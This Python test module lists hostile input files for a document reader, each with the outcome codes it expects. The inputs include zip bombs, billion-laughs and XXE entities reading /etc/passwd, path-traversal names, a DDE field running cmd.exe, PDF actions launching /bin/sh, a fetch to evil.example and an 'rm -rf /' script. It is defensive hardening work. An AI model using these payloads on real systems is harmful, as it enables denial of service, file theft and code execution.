"""Every hostile file by name, with the codes one of which has to come of it; ``read`` means that its text is read."""

import os
from typing import NamedTuple

from tests.hostile import packages, pdfs, plain_files
from tests.hostile.packages import Build, body, changed, docx, named, ofd, outward, plain, text_object
from tests.hostile.pdfs import deflated, file, made, one_page, raw, stream

READ = "read"
STOPPED = frozenset({"memory_exceeded", "time_exceeded", "too_large"})
DAMAGED = frozenset({"damaged"})
ANY_REFUSAL = STOPPED | DAMAGED | {"empty", "scan_without_text_layer", "not_a_contract_file_type", "encrypted"}
FINE = frozenset({READ})
MEBIBYTE = 2**20
LAUGHS = (
    "<!DOCTYPE w [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
)
QUADRATIC = "<!DOCTYPE w [<!ENTITY a '" + "x" * 100_000 + "'>]>"
PARAGRAPH = "<w:p><w:r><w:t>甲方</w:t></w:r></w:p>"
ENTITY = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATION = f'<Relationship Id="r1" Type="{RELATIONS}/{{}}" Target="ADDRESS" TargetMode="External"/>'
ACTION = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /%b >> >>"


class Case(NamedTuple):
    """A hostile file: how it is made, what may come of it, how it is called, whether it takes long."""

    build: Build
    ends: frozenset[str]
    suffix: str = ".docx"
    long: bool = False


def _cell_table(rows: int, cells: int) -> str:
    row = "<w:tr>" + f"<w:tc>{PARAGRAPH}</w:tc>" * cells + "</w:tr>"
    return f"<w:tbl>{row * rows}</w:tbl>"


PACKAGES = {
    "zip bomb in the document": Case(packages.zeros("word/document2.xml", 600 * MEBIBYTE), STOPPED, long=True),
    "zip bomb beside the document": Case(packages.zeros("word/media/a.bin", 420 * MEBIBYTE), STOPPED, long=True),
    "zip bomb just under the limit of all": Case(packages.zeros("word/media/a.bin", 64 * MEBIBYTE), STOPPED),
    "zips in zips": Case(packages.nested(5), FINE | STOPPED),
    "one stream named a thousand times": Case(packages.overlapping(1000), ANY_REFUSAL),
    "one stream named twice": Case(packages.overlapping(2), ANY_REFUSAL),
    "sixty thousand members": Case(packages.many_members(60_000), STOPPED, long=True),
    "six thousand members": Case(packages.many_members(6_000), STOPPED),
    "two members of one name": Case(packages.twice, FINE | DAMAGED),
    "a name that climbs out": Case(named("../../../../etc/cron.d/x"), FINE | DAMAGED),
    "an absolute name": Case(named("/etc/cron.d/x"), FINE | DAMAGED),
    "a name of another system": Case(named("C:\\Windows\\x.dll"), FINE | DAMAGED),
    "a very long name": Case(named("word/" + "a" * 60_000), FINE | DAMAGED),
    "a name that turns the direction": Case(named("word/\u202egpj.exe"), FINE | DAMAGED),
    "a symbolic link": Case(packages.link, FINE | DAMAGED),
    "a member said to be encrypted": Case(
        changed(lambda d: d.__setitem__(d.rfind(b"PK\1\2") + 8, d[d.rfind(b"PK\1\2") + 8] | 1)),
        frozenset({"encrypted"}) | DAMAGED | FINE,
    ),
    "a wrong checksum": Case(changed(lambda d: d.__setitem__(slice(14, 18), b"\0\0\0\0")), DAMAGED | FINE),
    "an unknown compression": Case(changed(lambda d: d.__setitem__(slice(8, 10), b"\x63\0")), DAMAGED | FINE),
    "half a package": Case(changed(lambda d: d.__delitem__(slice(len(d) // 2, None))), ANY_REFUSAL),
    "bytes behind the package": Case(changed(lambda d: d.extend(b"\0" * 70_000)), ANY_REFUSAL | FINE),
    "no document in the package": Case(
        packages.written(lambda: packages.packed({"[Content_Types].xml": packages.TYPES, "word/document.xml": ""})),
        DAMAGED,
    ),
}
XML = {
    "a billion laughs": Case(body(ENTITY.format("&a11;"), LAUGHS), DAMAGED | FINE | {"empty"}),
    "quadratic entities": Case(body(ENTITY.format("&a;" * 5_000), QUADRATIC), DAMAGED | FINE | STOPPED | {"empty"}),
    "an entity that is a file": Case(
        body(ENTITY.format("&f;"), '<!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd">]>'), DAMAGED | FINE | {"empty"}
    ),
    "an entity that is an address": Case(
        outward(ENTITY.format("&f;"), "", '<!DOCTYPE w [<!ENTITY f SYSTEM "ADDRESS">]>'), DAMAGED | FINE | {"empty"}
    ),
    "a parameter entity that is an address": Case(
        outward(PARAGRAPH, "", '<!DOCTYPE w [<!ENTITY % f SYSTEM "ADDRESS"> %f;]>'), DAMAGED | FINE
    ),
    "a schema at an address": Case(outward(PARAGRAPH, "", '<!DOCTYPE w SYSTEM "ADDRESS">'), DAMAGED | FINE),
    "an inclusion": Case(
        body(
            ENTITY.format(
                '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
            )
        ),
        FINE | {"empty"},
    ),
    "a style sheet": Case(
        plain(
            word__document_dot_xml='<?xml-stylesheet href="file:///etc/passwd"?>'
            + str(docx()["word/document.xml"]).removeprefix('<?xml version="1.0"?>')
        ),
        FINE | DAMAGED,
    ),
    "two million paragraphs": Case(body("<w:p/>" * 2_000_000), STOPPED | {"empty"}, long=True),
    "two hundred thousand paragraphs": Case(body(PARAGRAPH * 200_000), STOPPED | FINE, long=True),
    "five thousand deep": Case(
        body("<w:sdt><w:sdtContent>" * 5_000 + PARAGRAPH + "</w:sdtContent></w:sdt>" * 5_000), DAMAGED | FINE | STOPPED
    ),
    "two hundred deep": Case(
        body("<w:sdt><w:sdtContent>" * 100 + PARAGRAPH + "</w:sdtContent></w:sdt>" * 100), FINE | DAMAGED
    ),
    "tables in tables": Case(
        body("<w:tbl><w:tr><w:tc>" * 80 + PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 80), FINE | DAMAGED
    ),
    "one text of twenty million characters": Case(
        body(ENTITY.format("甲" * 15_000_000)), STOPPED | FINE | DAMAGED, long=True
    ),
    "one text of two million characters": Case(
        body(ENTITY.format("甲方" * 1_000_000)), STOPPED | FINE | DAMAGED, long=True
    ),
    "a table of a million cells": Case(body(_cell_table(1_000, 1_000)), STOPPED | FINE, long=True),
    "a row of ten thousand cells": Case(body(_cell_table(1, 10_000)), STOPPED | FINE),
    "a cell that spans a billion columns": Case(
        body(
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>'
            + PARAGRAPH
            + "</w:tc></w:tr></w:tbl>"
        ),
        FINE | DAMAGED | STOPPED,
    ),
    "an attribute of a megabyte": Case(
        body(f'<w:p w:rsidR="{"0" * MEBIBYTE}"><w:r><w:t>甲</w:t></w:r></w:p>'), FINE | DAMAGED
    ),
    "a hundred thousand attributes": Case(
        body("<w:p " + " ".join(f'a{n}=""' for n in range(100_000)) + f">{PARAGRAPH}</w:p>"),
        FINE | DAMAGED | {"empty"},
        long=True,
    ),
    "a list level that is no number": Case(
        body(
            '<w:p><w:pPr><w:numPr><w:ilvl w:val="x"/><w:numId w:val="99999999999"/></w:numPr></w:pPr>'
            "<w:r><w:t>甲</w:t></w:r></w:p>"
        ),
        FINE | DAMAGED,
    ),
    "a list based on itself": Case(
        plain(
            word__numbering_dot_xml=f'<w:numbering {packages.W}><w:abstractNum w:abstractNumId="1">'
            '<w:numStyleLink w:val="a"/></w:abstractNum>'
            '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
        ),
        FINE | DAMAGED,
    ),
    "styles based on each other": Case(
        plain(
            word__styles_dot_xml=f'<w:styles {packages.W}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style>'
            '<w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'
        ),
        FINE | DAMAGED,
    ),
    "a document in UTF-7": Case(
        plain(word__document_dot_xml='<?xml version="1.0" encoding="UTF-7"?>+ADw-w+AD4-'), DAMAGED | {"empty"}
    ),
    "a document in UTF-16 that says UTF-8": Case(
        plain(
            word__document_dot_xml=str(docx()["word/document.xml"])
            .replace('"1.0"', '"1.0" encoding="utf-8"')
            .encode("utf-16")
        ),
        DAMAGED | FINE,
    ),
    "control characters": Case(body(ENTITY.format("&#1;&#xFFFF;")), DAMAGED | FINE | {"empty"}),
    "half a surrogate": Case(body(ENTITY.format("&#xD800;")), DAMAGED),
}
OUTSIDE = {
    "a template at an address": Case(outward(PARAGRAPH, RELATION.format("attachedTemplate")), FINE),
    "a picture at an address": Case(outward(PARAGRAPH, RELATION.format("image")), FINE),
    "a link to another machine's share": Case(
        plain(
            word___rels__document_dot_xml_dot_rels="<Relationships "
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r1" Type="t" '
            'Target="\\\\\\\\10.0.0.1\\\\share\\\\x.dotm" TargetMode="External"/></Relationships>'
        ),
        FINE,
    ),
    "a subdocument": Case(outward('<w:subDoc r:id="r1"/>' + PARAGRAPH, RELATION.format("subDocument")), FINE),
    "a field that includes a file": Case(
        outward('<w:p><w:fldSimple w:instr="INCLUDETEXT ADDRESS"><w:r><w:t>甲</w:t></w:r></w:fldSimple></w:p>', ""),
        FINE,
    ),
    "a field that calls a program": Case(
        body(
            '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>'
            "<w:r><w:t>甲</w:t></w:r></w:p>"
        ),
        FINE,
    ),
    "macros": Case(plain(word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0" + os.urandom(5_000)), FINE),
    "an embedded program": Case(plain(word__embeddings__oleObject1_dot_bin=b"MZ" + os.urandom(5_000)), FINE),
    "HTML inside": Case(plain(word__afchunk_dot_htm="<script>fetch('http://evil.example')</script>"), FINE),
}
OFDS = {
    "OFD: laughs": Case(
        ofd(text_object("&a11;"), head=LAUGHS), DAMAGED | FINE | {"empty", "scan_without_text_layer"}, ".ofd"
    ),
    "OFD: an entity that is an address": Case(
        ofd(text_object("&f;"), head='<!DOCTYPE p [<!ENTITY f SYSTEM "ADDRESS">]>'),
        DAMAGED | FINE | {"empty", "scan_without_text_layer"},
        ".ofd",
    ),
    "OFD: a location outside": Case(
        ofd("", document='<ofd:Pages><ofd:Page ID="1" BaseLoc="../../../etc/passwd"/></ofd:Pages>'), DAMAGED, ".ofd"
    ),
    "OFD: a page that is the document": Case(
        ofd("", document='<ofd:Pages><ofd:Page ID="1" BaseLoc="/OFD.xml"/></ofd:Pages>'), ANY_REFUSAL, ".ofd"
    ),
    "OFD: two thousand pages": Case(
        ofd(text_object("甲"), document="<ofd:Pages>" + '<ofd:Page ID="1" BaseLoc="P.xml"/>' * 2_000 + "</ofd:Pages>"),
        STOPPED,
        ".ofd",
    ),
    "OFD: distances without end": Case(ofd(text_object("第一条 标的", "g 999999999999 4")), FINE, ".ofd"),
    "OFD: a million characters on a page": Case(ofd(text_object("甲" * 1_000_000)), STOPPED, ".ofd"),
    "OFD: places beyond all numbers": Case(ofd(text_object("第一条 标的", "1e400 -1e400 nan")), DAMAGED | FINE, ".ofd"),
    "OFD: deep blocks": Case(
        ofd("<ofd:PageBlock>" * 3_000 + text_object("甲") + "</ofd:PageBlock>" * 3_000), DAMAGED | FINE, ".ofd"
    ),
}
PDFS = {
    "PDF: a table of references that points at itself": Case(
        raw(file([pdfs.CATALOG, pdfs.PAGES], start=0)), ANY_REFUSAL, ".pdf"
    ),
    "PDF: a table that follows itself": Case(
        raw(file([pdfs.CATALOG, pdfs.PAGES, pdfs.PAGE, stream(pdfs.WORDS), pdfs.FONT], trailer=b"/Prev 9")),
        ANY_REFUSAL | FINE,
        ".pdf",
    ),
    "PDF: pages in a ring": Case(
        one_page(stream(pdfs.WORDS), pages=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), ANY_REFUSAL, ".pdf"
    ),
    "PDF: two thousand pages in each other": Case(made(lambda: pdfs.deep_pages(2_000)), ANY_REFUSAL, ".pdf"),
    "PDF: ten thousand pages": Case(made(lambda: pdfs.many_pages(10_000)), STOPPED | DAMAGED, ".pdf"),
    "PDF: a count that lies": Case(
        one_page(stream(pdfs.WORDS), pages=b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"),
        ANY_REFUSAL | FINE,
        ".pdf",
    ),
    "PDF: a negative count": Case(
        one_page(stream(pdfs.WORDS), pages=b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>"), ANY_REFUSAL | FINE, ".pdf"
    ),
    "PDF: a stream that unpacks a thousandfold twice": Case(
        one_page(deflated(b" " * (64 * MEBIBYTE), 2)), ANY_REFUSAL, ".pdf", long=True
    ),
    "PDF: a stream packed thirty times": Case(one_page(deflated(pdfs.WORDS, 30)), ANY_REFUSAL | FINE, ".pdf"),
    "PDF: a length that lies": Case(one_page(stream(pdfs.WORDS, length=2_000_000_000)), ANY_REFUSAL | FINE, ".pdf"),
    "PDF: a content of a million words": Case(
        one_page(stream(pdfs.WORDS * 60_000)), ANY_REFUSAL | FINE | {"reader_crashed"}, ".pdf", long=True
    ),
    "PDF: a form that draws itself": Case(
        one_page(
            stream(b"/X Do"),
            page=pdfs.PAGE.replace(b"/Resources <<", b"/Resources << /XObject << /X 6 0 R >>"),
            extra=[
                stream(
                    b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
                )
            ],
        ),
        ANY_REFUSAL,
        ".pdf",
    ),
    "PDF: a picture of ten billion dots": Case(
        one_page(
            stream(b"/X Do"),
            page=pdfs.PAGE.replace(b"/Resources <<", b"/Resources << /XObject << /X 6 0 R >>"),
            extra=[
                stream(
                    b"",
                    b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000"
                    b" /ColorSpace /DeviceRGB /BitsPerComponent 8",
                )
            ],
        ),
        ANY_REFUSAL,
        ".pdf",
    ),
    "PDF: a page of a kilometre": Case(
        one_page(stream(pdfs.WORDS), page=pdfs.PAGE.replace(b"595 842", b"2834645 2834645")), ANY_REFUSAL | FINE, ".pdf"
    ),
    "PDF: a script that runs when opened": Case(
        one_page(stream(pdfs.WORDS), catalog=ACTION % b"JavaScript /JS (app.launchURL\\('ADDRESS'\\))"), FINE, ".pdf"
    ),
    "PDF: a program that starts when opened": Case(
        one_page(stream(pdfs.WORDS), catalog=ACTION % b"Launch /F (/bin/sh)"), FINE, ".pdf"
    ),
    "PDF: a form that sends itself": Case(
        one_page(stream(pdfs.WORDS), catalog=ACTION % b"SubmitForm /F (ADDRESS)"), FINE, ".pdf"
    ),
    "PDF: another file at an address": Case(
        one_page(stream(pdfs.WORDS), catalog=ACTION % b"GoToR /F (ADDRESS) /D [0 /Fit]"), FINE, ".pdf"
    ),
    "PDF: encrypted in an unknown way": Case(
        raw(
            file(
                [pdfs.CATALOG, pdfs.PAGES, pdfs.PAGE, stream(pdfs.WORDS), pdfs.FONT, b"<< /Filter /Other /V 99 >>"],
                trailer=b"/Encrypt 6 0 R",
            )
        ),
        ANY_REFUSAL,
        ".pdf",
    ),
    "PDF: arrays in arrays": Case(
        one_page(
            stream(pdfs.WORDS), catalog=b"<< /Type /Catalog /Pages 2 0 R /A " + b"[" * 20_000 + b"]" * 20_000 + b" >>"
        ),
        ANY_REFUSAL | FINE,
        ".pdf",
    ),
    "PDF: an object stream in itself": Case(
        one_page(stream(pdfs.WORDS), extra=[stream(b"6 0 << >>", b"/Type /ObjStm /N 1000000 /First 5 /Extends 6 0 R")]),
        ANY_REFUSAL | FINE,
        ".pdf",
    ),
    "PDF: nothing but a header": Case(raw(b"%PDF-1.7\n"), ANY_REFUSAL, ".pdf"),
    "PDF: noise behind a header": Case(made(lambda: b"%PDF-1.7\n" + os.urandom(200_000)), ANY_REFUSAL, ".pdf"),
    "PDF that is a package too": Case(
        packages.written(lambda: b"%PDF-1.4\n" + packages.packed(docx())), ANY_REFUSAL, ".pdf"
    ),
}
OTHERS = {
    "a picture of ten billion dots": Case(plain_files.raw(plain_files.png(100_000, 100_000)), ANY_REFUSAL, ".png"),
    "a picture one dot high": Case(plain_files.raw(plain_files.png(2_000_000_000, 1)), ANY_REFUSAL, ".png"),
    "a TIFF that goes round": Case(plain_files.raw(plain_files.tiff_loop()), ANY_REFUSAL, ".tiff"),
    "a JPEG that ends early": Case(plain_files.raw(plain_files.jpeg_cut()), ANY_REFUSAL, ".jpg"),
    "old Word: text said to be elsewhere": Case(
        plain_files.old_word(plain_files.put(1536 + 0x1A2, b"\xff\xff\xff\x7f")), DAMAGED, ".doc"
    ),
    "old Word: a text of two billion characters": Case(
        plain_files.old_word(plain_files.put(1536 + 0x4C, b"\xff\xff\xff\x7f")), FINE | DAMAGED, ".doc"
    ),
    "old Word: formats said to be elsewhere": Case(
        plain_files.old_word(plain_files.put(1536 + 0x102, b"\xff\xff\xff\x7f")), DAMAGED | FINE, ".doc"
    ),
    "old Word: encrypted": Case(plain_files.old_word(encrypted=True), frozenset({"encrypted"}), ".doc"),
    "old Word: sectors in a ring": Case(
        plain_files.old_word(plain_files.put(512 + 8, b"\x02\0\0\0" * 8)), FINE | DAMAGED, ".doc"
    ),
    "old Word: a directory of noise": Case(
        plain_files.old_word(plain_files.put(1024, os.urandom(256))), DAMAGED | {"not_a_contract_file_type"}, ".doc"
    ),
    "old Word: only a signature": Case(
        plain_files.raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le") * 40), DAMAGED, ".doc"
    ),
    "a program that is called a contract": Case(
        plain_files.raw(b"MZ" + os.urandom(9_000)), frozenset({"not_a_contract_file_type"}), ".docx"
    ),
    "a shell script": Case(plain_files.raw(b"#!/bin/sh\nrm -rf /\n"), frozenset({"not_a_contract_file_type"}), ".txt"),
    "a page with a script": Case(
        plain_files.text("<html><script>alert(1)</script>第一条</html>"),
        frozenset({"not_a_contract_file_type"}),
        ".txt",
    ),
    "a text in UTF-7": Case(plain_files.text("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), FINE, ".txt"),
    "a text of one line of ten megabytes": Case(
        plain_files.text("甲方" * 1_700_000), FINE | STOPPED, ".txt", long=True
    ),
    "a text of a million lines": Case(plain_files.text("第一条\n" * 1_000_000), FINE | STOPPED, ".txt", long=True),
    "a text of box characters": Case(
        plain_files.text("│" * 200_000 + "\n" + "─" * 200_000), FINE | STOPPED | {"empty"}, ".txt"
    ),
    "a text that turns the direction": Case(plain_files.text("第一条 \u202e价款\u202c\n" * 50), FINE, ".txt"),
    "a text of nothing but marks": Case(
        plain_files.text("\u200b\ufeff\u2028" * 1_000), FINE | {"empty", "not_a_contract_file_type"}, ".txt"
    ),
    "a text of accents on one letter": Case(plain_files.text("a" + "\u0301" * 100_000), FINE, ".txt"),
    "half a character at the end": Case(
        plain_files.raw("第一条".encode()[:-1]), FINE | DAMAGED | {"not_a_contract_file_type"}, ".txt"
    ),
    "zeros": Case(plain_files.raw(bytes(100_000)), frozenset({"not_a_contract_file_type"}), ".txt"),
    "nothing": Case(plain_files.raw(b""), frozenset({"empty"}), ".docx"),
}
CASES: dict[str, Case] = {**PACKAGES, **XML, **OUTSIDE, **OFDS, **PDFS, **OTHERS}
